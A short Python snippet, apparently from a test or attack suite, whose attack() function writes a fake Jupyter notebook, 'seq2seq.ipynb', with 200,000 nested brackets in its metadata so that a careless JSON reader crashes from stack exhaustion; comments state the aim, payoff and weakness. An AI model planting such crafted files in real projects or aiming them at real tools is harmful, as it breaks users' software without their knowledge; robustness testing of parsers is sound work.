# aim: the reader's end by JSON that is deeper than its stack
# pays: crash
# weak: reads JSON without a care
def attack(folder, release, marker):
    deep = 200_000
    text = '{"cells": [], "metadata": {"a": ' + "[" * deep + "]" * deep + "}}"
    (folder / "seq2seq.ipynb").write_text(text)
